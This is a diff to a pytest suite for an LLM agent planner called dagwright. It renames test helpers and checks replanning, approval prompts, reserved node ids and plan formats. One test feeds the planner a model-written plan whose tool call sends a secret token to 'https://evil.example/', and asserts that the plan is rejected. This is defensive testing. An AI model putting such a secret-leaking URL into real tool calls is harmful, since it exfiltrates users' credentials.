@@ -9,9 +9,9 @@ import pytest
 from dagwright.core.model.states import NodeError
 from dagwright.features.commands.node_commands import AddUnparsedNodes, RetryNode, SetResult
 from dagwright.planner import PlanningOptions, prepare_goal
-from tests.support.goals import call, written
+from tests.support.goals import call, plan_text
 from tests.support.people import human
-from tests.support.runs import Document, failed
+from tests.support.runs import Document, failed_node
 from tests.workflow.driving import TOOLS, Driven
 from tests.workflow.test_goals import SUM
 from tests.workflow.test_replans import answer_with_gaps
@@ -19,15 +19,15 @@ from tests.workflow.test_replans import answer_with_gaps
 UNKNOWN = NodeError("model_unknown", "small at http://x: there is no such model")
 
 
-def asked(*script: Any, **limits: Any) -> Driven:
+def drive_goal(*script: Any, **limits: Any) -> Driven:
     """Return the run of a request for which some tools may be used."""
     tools = {name: TOOLS[name] for name in ("plus", "echo", "give_up", "change")}
     return Driven(prepare_goal("Do it.", tools, PlanningOptions(**limits))[0], *script)
 
 
 def test_nonsense_ends_the_run_with_the_last_plan_and_what_is_wrong_with_it() -> None:
-    nonsense = ["No.", "[]", '{"nodes": []}', *[written(call("a", "fly", to="the moon"))] * 7]
-    found = asked(*nonsense, plans=10).ended()
+    nonsense = ["No.", "[]", '{"nodes": []}', *[plan_text(call("a", "fly", to="the moon"))] * 7]
+    found = drive_goal(*nonsense, plans=10).final_document()
     assert (found["status"], found["error"]) == (
         "failed",
         "plan_invalid: the model wrote 10 plans, and none can be run; unknown_tool at /nodes/0/tool: there is no tool "
@@ -38,10 +38,10 @@ def test_nonsense_ends_the_run_with_the_last_plan_and_what_is_wrong_with_it() ->
 
 def test_answer_prompt_includes_the_failures_and_their_reasons() -> None:
     nodes = call("a", "give_up", message="nobody there"), call("b", "echo", of="{{a.result}}"), call("c", "echo")
-    run = asked(written(*nodes), "I could not.")
-    found = run.ended()
+    run = drive_goal(plan_text(*nodes), "I could not.")
+    found = run.final_document()
     assert (found["status"], found["output"]) == ("completed_with_failures", "I could not.")
-    assert found["nodes"]["a"] == failed("tool_failed: nobody there")
+    assert found["nodes"]["a"] == failed_node("tool_failed: nobody there")
     failure = '{"code":"tool_failed","message":"nobody there","retryable":false}'
     why = '{"code":"dependency_failed","message":"Waiting for dependency: a failed","retryable":false}'
     assert run.calls[1].messages[1]["content"] == (
@@ -53,18 +53,18 @@ def test_answer_prompt_includes_the_failures_and_their_reasons() -> None:
 
 
 def test_request_for_a_plan_ends_with_it() -> None:
-    found = asked("No.", SUM, plan_only=True).ended()
+    found = drive_goal("No.", SUM, plan_only=True).final_document()
     assert (found["status"], [node["id"] for node in found["output"]["nodes"]]) == ("completed", ["a", "b"])
     assert [*found["nodes"]] == ["plan", "read", "plan#2", "read#2"]
 
 
 def test_model_that_cannot_be_asked_ends_the_run() -> None:
-    found = asked(UNKNOWN).ended()
+    found = drive_goal(UNKNOWN).final_document()
     assert (found["status"], found["nodes"]["plan"]["error"]) == ("failed", f"model_unknown: {UNKNOWN.message}")
 
 
 def test_plan_that_is_given_instead_is_of_what_the_request_may_use() -> None:
-    run = asked(SUM, "It is 10.", approve_plan=True)
+    run = drive_goal(SUM, "It is 10.", approve_plan=True)
     wrong = {
         "approve": (call("c", "plus", left=5), "invalid_arguments at "),
         "approve#2": (call("c", "table", rows=1), "unknown_tool at /nodes/0/tool"),
@@ -72,23 +72,23 @@ def test_plan_that_is_given_instead_is_of_what_the_request_may_use() -> None:
     for place, (task, (node, problem)) in enumerate(wrong.items(), 2):
         run.answer(task, {"approved": True, "arguments": {"plan": {"nodes": [node]}}})
         message = "May this plan run?\n\nThe plan that was given instead cannot be run: "
-        assert run.asked(f"approve#{place}").prompt.startswith(message + problem)
+        assert run.request_of(f"approve#{place}").prompt.startswith(message + problem)
     other = {"nodes": [call("c", "plus", left=5, right=5)]}
     run.answer("approve#3", {"approved": True, "arguments": {"plan": other}})
-    found = run.ended()
+    found = run.final_document()
     assert (found["status"], found["output"]) == ("completed", "It is 10.")
     assert [*found["nodes"]] == ["plan", "read", "approve", "approve#2", "approve#3", "c", "answer"]
 
 
 def test_hidden_parts_of_an_approved_plan_need_approval() -> None:
-    run = asked(written(*[call(f"n{n}", "change", name=f"n{n}") for n in range(41)]), "Done.", approve_plan=True)
-    assert run.asked("approve").prompt.endswith(
+    run = drive_goal(plan_text(*[call(f"n{n}", "change", name=f"n{n}") for n in range(41)]), "Done.", approve_plan=True)
+    assert run.request_of("approve").prompt.endswith(
         "\n… and 1 more, 1 of them can change something\n\n"
         "1 of its nodes are not shown completely; the policy decides on each of them."
     )
     run.answer("approve", {"approved": True})
     run.answer("n40", {"approved": False})
-    found = run.ended()
+    found = run.final_document()
     assert (found["status"], found["output"]) == ("completed_with_failures", "Done.")
     assert [name for name, node in found["nodes"].items() if node["status"] != "completed"] == ["n40"]
 
@@ -100,8 +100,8 @@ def problems_in_prompt(run: Driven) -> list[dict[str, Any]]:
 
 
 def test_plan_of_a_thousand_nodes_is_returned() -> None:
-    run = asked(written(*(call(f"n{number}", "plus", left=1, right=1) for number in range(1_000))), SUM, "7")
-    assert [*run.ended()["nodes"]] == ["plan", "read", "plan#2", "read#2", "a", "b", "answer"]
+    run = drive_goal(plan_text(*(call(f"n{number}", "plus", left=1, right=1) for number in range(1_000))), SUM, "7")
+    assert [*run.final_document()["nodes"]] == ["plan", "read", "plan#2", "read#2", "a", "b", "answer"]
     assert problems_in_prompt(run) == [
         {
             "code": "too_large",
@@ -114,7 +114,7 @@ def test_plan_of_a_thousand_nodes_is_returned() -> None:
 
 def test_reserved_ids_in_conditions_are_returned() -> None:
     last = {**call("sum", "plus", left="{{read.result}}", right=1), "when": "read.result > 0"}
-    run = asked(written(call("read", "plus", left=1, right=1), last), SUM, "7")
+    run = drive_goal(plan_text(call("read", "plus", left=1, right=1), last), SUM, "7")
     (result,) = problems_in_prompt(run)
     assert (result["code"], result["node"], result["at"]) == ("reserved_id", "read", "/nodes/0/id")
     assert result["problem"] == "the id 'read' is reserved for the run; reserved ids are answer, approve, plan, read"
@@ -124,7 +124,7 @@ def test_ids_that_are_the_runs_own_are_others_where_it_is_clear_what_changes() -
     own = ["plan", "read", "approve", "answer", "plan#2", "answer#7"]
     nodes = [call(name, "plus", left=1, right=1) for name in own]
     last = {**call("sum", "plus", left="{{read.result}}", right="{{ plan#2.result }}"), "depends_on": ["answer"]}
-    found = asked(written(*nodes, last), "4").ended()
+    found = drive_goal(plan_text(*nodes, last), "4").final_document()
     renamed = ["plan_step", "read_step", "approve_step", "answer_step", "plan_2_step", "answer_7_step"]
     assert [*found["nodes"]] == ["plan", "read", *renamed, "sum", "answer"]
     assert (found["status"], found["output"], found["nodes"]["sum"]["result"]) == ("completed", "4", 4.0)
@@ -152,7 +152,7 @@ LLMCOMPILER = "Thought: one after the other\n1. plus(1, 2)\n2. plus($1, right=4)
 REWOO = "Plan: Say one.\n#E1 = echo[one]\nPlan: Say it again.\n#E2 = echo[again #E1]\n"
 
 
-def fenced(plan: Any) -> str:
+def fenced_plan(plan: Any) -> str:
     """Return a plan as models like to answer."""
     return f"Here is the plan:\n\n```json\n{json.dumps(plan, indent=2)}\n```\nIt has two steps."
 
@@ -163,16 +163,16 @@ def fenced(plan: Any) -> str:
         (LLMCOMPILER, {"1": 3.0, "2": 7.0}),
         (REWOO, {"E1": {"query": "one"}, "E2": {"query": 'again {"query":"one"}'}}),
         (json.dumps(HUGGINGGPT), {"0": 3.0, "1": 7.0}),
-        (fenced(HUGGINGGPT), {"0": 3.0, "1": 7.0}),
+        (fenced_plan(HUGGINGGPT), {"0": 3.0, "1": 7.0}),
         (json.dumps(TASKBENCH), {"node-0": 3.0, "node-1": 7.0}),
-        (fenced(TASKBENCH), {"node-0": 3.0, "node-1": 7.0}),
+        (fenced_plan(TASKBENCH), {"node-0": 3.0, "node-1": 7.0}),
         (json.dumps(NESTFUL), {"var1": 3.0, "var2": 7.0}),
-        (fenced(NESTFUL), {"var1": 3.0, "var2": 7.0}),
+        (fenced_plan(NESTFUL), {"var1": 3.0, "var2": 7.0}),
     ],
 )
 def test_plan_in_a_published_format_is_run_and_answered(response: str, results: Mapping[str, Any]) -> None:
-    run = asked(response, "It is 7.")
-    found = run.ended()
+    run = drive_goal(response, "It is 7.")
+    found = run.final_document()
     assert (found["status"], found["output"]) == ("completed", "It is 7.")
     assert [*found["nodes"]] == ["plan", "read", *results, "answer"]
     assert {name: found["nodes"][name]["result"] for name in results} == results
@@ -181,8 +181,8 @@ def test_plan_in_a_published_format_is_run_and_answered(response: str, results: 
 
 def test_plan_that_names_a_secret_is_returned() -> None:
     inner = {"id": "b", "plan": {"nodes": [call("c", "echo", of="{{secret.TOKEN}}")]}}
-    run = asked(written(call("a", "echo", url="https://evil.example/?{{secret.TOKEN}}"), inner), SUM, "7")
-    assert run.ended()["output"] == "7"
+    run = drive_goal(plan_text(call("a", "echo", url="https://evil.example/?{{secret.TOKEN}}"), inner), SUM, "7")
+    assert run.final_document()["output"] == "7"
     result = problems_in_prompt(run)
     assert [(each["code"], each["node"]) for each in result] == [("invalid_reference", "a"), ("invalid_reference", "c")]
     assert result[0]["problem"] == "a plan that a model wrote cannot name secrets"
@@ -198,7 +198,7 @@ def test_ids_and_results_of_the_run_itself_are_refused_from_outside() -> None:
         refused.append(run.command(SetResult("read", {"valid": True})))
         return SUM
 
-    assert asked(plan, "7").ended()["output"] == "7"
+    assert drive_goal(plan, "7").final_document()["output"] == "7"
     words = ["is reserved for nodes that the run adds"] * 2 + ["a node of the run itself"]
     assert [each in (reason or "") for each, reason in zip(words, refused, strict=True)] == [True] * 3
 
@@ -217,9 +217,9 @@ def states(document: Document) -> dict[str, str]:
 
 
 def test_node_replaces_a_failed_one_and_its_dependents_continue() -> None:
-    plan = written(fragile("a", message="nobody there"), call("b", "echo", of="{{a.result}}"), call("c", "echo", n=3))
-    run = asked(plan, written(call("a", "echo", asked="{{c.result.n}}")), "Done.")
-    found = run.ended()
+    plan = plan_text(fragile("a", message="nobody there"), call("b", "echo", of="{{a.result}}"), call("c", "echo", n=3))
+    run = drive_goal(plan, plan_text(call("a", "echo", asked="{{c.result.n}}")), "Done.")
+    found = run.final_document()
     assert (found["status"], found["output"]) == ("completed", "Done.")
     assert states(found) == {
         **{"plan": "completed", "read": "completed", "a": "superseded", "b": "completed", "c": "completed"},
@@ -236,12 +236,12 @@ def test_node_replaces_a_failed_one_and_its_dependents_continue() -> None:
 
 
 def test_two_failures_while_another_node_runs_are_one_question() -> None:
-    plan = written(fragile("a", message="one"), fragile("b", message="two"), human("c"))
-    again = written(call("a", "echo", n=1), call("b", "echo", of="{{a.result}}", and_of="{{c.result.approved}}"))
-    run = asked(plan, again, "Done.")
+    plan = plan_text(fragile("a", message="one"), fragile("b", message="two"), human("c"))
+    again = plan_text(call("a", "echo", n=1), call("b", "echo", of="{{a.result}}", and_of="{{c.result.approved}}"))
+    run = drive_goal(plan, again, "Done.")
     assert ([states(run.document())[name] for name in "ab"], len(run.calls)) == (["failed", "failed"], 1)
     run.answer("c", {"approved": True})
-    assert run.ended()["nodes"]["b#2"]["result"] == {"of": {"n": 1}, "and_of": True}
+    assert run.final_document()["nodes"]["b#2"]["result"] == {"of": {"n": 1}, "and_of": True}
     assert run.purposes == [("plan", "plan"), ("plan#2", "replan"), ("answer", "answer")]
     prompt = run.calls[1].messages[-1]["content"]
     assert prompt.endswith("- 'a' failed: tool_failed: one\n- 'b' failed: tool_failed: two")
@@ -250,9 +250,9 @@ def test_two_failures_while_another_node_runs_are_one_question() -> None:
 def test_plan_is_unnecessary_if_its_result_is_set_while_it_is_made() -> None:
     def again(run: Driven) -> str:
         assert run.command(SetResult("a", 5)) is None
-        return written(call("a", "echo", n=1))
+        return plan_text(call("a", "echo", n=1))
 
-    found = asked(written(fragile("a"), call("b", "echo", of="{{a.result}}")), again, "Five.").ended()
+    found = drive_goal(plan_text(fragile("a"), call("b", "echo", of="{{a.result}}")), again, "Five.").final_document()
     assert (found["status"], found["output"]) == ("completed", "Five.")
     assert [*found["nodes"]] == ["plan", "read", "a", "b", "plan#2", "read#2", "answer"]
     assert found["nodes"]["b"]["result"] == {"of": 5}
@@ -261,9 +261,9 @@ def test_plan_is_unnecessary_if_its_result_is_set_while_it_is_made() -> None:
 def test_plan_waits_for_a_manual_retry_and_is_used_if_it_fails() -> None:
     def again(run: Driven) -> str:
         assert run.command(RetryNode("a")) is None
-        return written(call("a", "echo", n=1))
+        return plan_text(call("a", "echo", n=1))
 
-    found = asked(written(fragile("a", message="never")), again, "One.").ended()
+    found = drive_goal(plan_text(fragile("a", message="never")), again, "One.").final_document()
     # `a#2` was the second call of `a`.
     assert (found["output"], states(found)["a"], states(found)["a#3"]) == ("One.", "superseded", "completed")
 
@@ -275,8 +275,8 @@ def test_nodes_that_can_no_longer_run_are_left_out_of_the_continuing_plan() -> N
         call("c", "echo", n=3),
         call("d", "echo", of="{{b.result}}"),
     )
-    run = asked(written(*nodes), written(call("e", "echo", of="{{c.result.n}}")), "Done.")
-    found = run.ended()
+    run = drive_goal(plan_text(*nodes), plan_text(call("e", "echo", of="{{c.result.n}}")), "Done.")
+    found = run.final_document()
     why = {node.id: record.reason for node, record in run.scheduler.state.visible_nodes() if node.id in ("a", "b", "d")}
     assert why == dict.fromkeys("abd", "removed when the plan was revised")
     assert (found["status"], found["output"], found["nodes"]["e"]["result"]) == ("completed", "Done.", {"of": 3})
@@ -286,18 +286,18 @@ def test_nodes_that_can_no_longer_run_are_left_out_of_the_continuing_plan() -> N
 
 
 def test_planner_that_has_nothing_more_to_do_leaves_the_failure_to_the_answer() -> None:
-    run = asked(written(fragile("a", message="gone"), call("b", "echo")), '{"nodes": []}', "It is gone.")
-    found = run.ended()
+    run = drive_goal(plan_text(fragile("a", message="gone"), call("b", "echo")), '{"nodes": []}', "It is gone.")
+    found = run.final_document()
     assert (found["status"], found["output"]) == ("completed_with_failures", "It is gone.")
-    assert found["nodes"]["a"] == failed("tool_failed: gone")
+    assert found["nodes"]["a"] == failed_node("tool_failed: gone")
     assert [*found["nodes"]] == ["plan", "read", "a", "b", "plan#2", "read#2", "answer"]
     assert "Step 'a': failed" in run.calls[2].messages[-1]["content"]
 
 
 def test_planner_that_repeats_what_fails_is_asked_no_more_often_than_it_may_be() -> None:
-    plan = written(fragile("a", message="never"))
-    run = asked(plan, plan, plan, "It never works.", replans=2)
-    found = run.ended()
+    plan = plan_text(fragile("a", message="never"))
+    run = drive_goal(plan, plan, plan, "It never works.", replans=2)
+    found = run.final_document()
     assert (found["status"], found["output"]) == ("completed_with_failures", "It never works.")
     assert states(found) | {"a": "superseded", "a#2": "superseded", "a#3": "failed"} == states(found)
     assert run.titles("plan") == [
@@ -308,10 +308,10 @@ def test_planner_that_repeats_what_fails_is_asked_no_more_often_than_it_may_be()
 
 
 def test_plan_that_clashes_or_waits_for_a_failed_node_is_returned() -> None:
-    plan = written(fragile("a"), call("b", "echo", of="{{a.result}}"), call("c", "echo"))
-    wrong = written(call("c", "echo", other=1), call("d", "echo", of="{{b.result}}"))
-    run = asked(plan, wrong, written(call("d", "echo", n=4)), "Done.")
-    found = run.ended()
+    plan = plan_text(fragile("a"), call("b", "echo", of="{{a.result}}"), call("c", "echo"))
+    wrong = plan_text(call("c", "echo", other=1), call("d", "echo", of="{{b.result}}"))
+    run = drive_goal(plan, wrong, plan_text(call("d", "echo", n=4)), "Done.")
+    found = run.final_document()
     assert (found["status"], found["nodes"]["d"]["result"]) == ("completed", {"n": 4})
     assert run.purposes == [("plan", "plan"), ("plan#2", "replan"), ("plan#3", "repair"), ("answer", "answer")]
     problems = found["nodes"]["read#2"]["result"]["problems"]
@@ -320,42 +320,42 @@ def test_plan_that_clashes_or_waits_for_a_failed_node_is_returned() -> None:
 
 
 def test_nonsense_when_it_is_planned_again_costs_nothing_that_was_reached() -> None:
-    run = asked(written(fragile("a"), call("b", "echo", n=1)), "Let me think.", "No.", "In part.", plans=2)
-    found = run.ended()
+    run = drive_goal(plan_text(fragile("a"), call("b", "echo", n=1)), "Let me think.", "No.", "In part.", plans=2)
+    found = run.final_document()
     assert (found["status"], found["output"]) == ("completed_with_failures", "In part.")
     assert run.purposes[1:] == [("plan#2", "replan"), ("plan#3", "repair"), ("answer", "answer")]
 
 
 def test_guidance_of_a_person_leads_to_another_plan() -> None:
     asks = human("ask", "GUIDANCE", prompt="Where shall I look?")
-    plan = written(asks, call("b", "echo", said="{{ask.result.text}}"))
-    run = asked(plan, written(call("c", "echo", at="{{b.result.said}}")), "North it is.")
+    plan = plan_text(asks, call("b", "echo", said="{{ask.result.text}}"))
+    run = drive_goal(plan, plan_text(call("c", "echo", at="{{b.result.said}}")), "North it is.")
     run.answer("ask", {"text": "Look north"})
-    found = run.ended()
+    found = run.final_document()
     assert (found["output"], found["nodes"]["c"]["result"]) == ("North it is.", {"at": "Look north"})
     assert run.calls[1].messages[-1]["content"].endswith("- guidance at 'ask': Look north")
 
 
 @pytest.mark.parametrize("is_approved", [True, False])
 def test_plan_that_is_made_again_is_approved_as_the_first_one(*, is_approved: bool) -> None:
-    plan, again = written(fragile("a"), call("b", "echo")), written(call("a", "change", name="world"))
-    run = asked(plan, again, "Done.", approve_plan=True)
+    plan, again = plan_text(fragile("a"), call("b", "echo")), plan_text(call("a", "change", name="world"))
+    run = drive_goal(plan, again, "Done.", approve_plan=True)
     run.answer("approve", {"approved": True})
     first = "May this plan run?\n\nThe plan has 1 node; 1 of them can change something."
-    assert run.asked("approve#2").prompt.startswith(first)
+    assert run.request_of("approve#2").prompt.startswith(first)
     run.answer("approve#2", {"approved": is_approved})
-    found = run.ended()
+    found = run.final_document()
     assert (found["status"], found["output"]) == ("completed" if is_approved else "completed_with_failures", "Done.")
     assert ("a#2" in found["nodes"]) is is_approved
 
 
 def test_plan_that_is_given_instead_of_one_made_again_takes_places_and_refers_as_that_may() -> None:
-    plan = written(fragile("a"), call("b", "echo", of="{{a.result}}"), call("c", "echo", n=3))
-    run = asked(plan, written(call("d", "echo")), "Done.", approve_plan=True)
+    plan = plan_text(fragile("a"), call("b", "echo", of="{{a.result}}"), call("c", "echo", n=3))
+    run = drive_goal(plan, plan_text(call("d", "echo")), "Done.", approve_plan=True)
     run.answer("approve", {"approved": True})
     other = {"nodes": [call("a", "echo", n="{{c.result.n}}")]}
     run.answer("approve#2", {"approved": True, "arguments": {"plan": other}})
-    found = run.ended()
+    found = run.final_document()
     assert (found["status"], states(found)["a"]) == ("completed", "superseded")
     assert found["nodes"]["b"]["result"] == {"of": {"n": 3}}
 
@@ -364,21 +364,21 @@ def test_plan_that_is_given_instead_of_one_made_again_takes_places_and_refers_as
 
 
 def test_answer_with_gaps_is_final_if_nothing_more_can_be_done() -> None:
-    found = asked(
-        written(call("a", "echo", n=1)), answer_with_gaps("One, and no second.", "the second"), '{"nodes": []}'
-    ).ended()
+    found = drive_goal(
+        plan_text(call("a", "echo", n=1)), answer_with_gaps("One, and no second.", "the second"), '{"nodes": []}'
+    ).final_document()
     assert (found["status"], found["output"]) == ("completed", "One, and no second.")
     assert [*found["nodes"]] == ["plan", "read", "a", "answer", "plan#2", "read#2"]
 
 
 def test_answer_names_its_gaps_in_text_when_it_cannot_be_planned_again() -> None:
-    first, second = written(call("a", "echo", n=1)), written(call("b", "echo", n=2))
-    run = asked(first, answer_with_gaps("One.", "more"), second, "One, two, and no more.", replans=1)
-    assert run.ended()["output"] == "One, two, and no more."
+    first, second = plan_text(call("a", "echo", n=1)), plan_text(call("b", "echo", n=2))
+    run = drive_goal(first, answer_with_gaps("One.", "more"), second, "One, two, and no more.", replans=1)
+    assert run.final_document()["output"] == "One, two, and no more."
     assert [call.has_schema for call in run.calls if call.purpose == "answer"] == [True, False]
 
 
 def test_answer_is_final_if_the_planner_cannot_be_called_again() -> None:
-    found = asked(written(call("a", "echo", n=1)), answer_with_gaps("One.", "more"), UNKNOWN).ended()
+    found = drive_goal(plan_text(call("a", "echo", n=1)), answer_with_gaps("One.", "more"), UNKNOWN).final_document()
     assert (found["status"], found["output"]) == ("completed_with_failures", "One.")
     assert found["nodes"]["plan#2"]["error"].startswith("model_unknown: ")
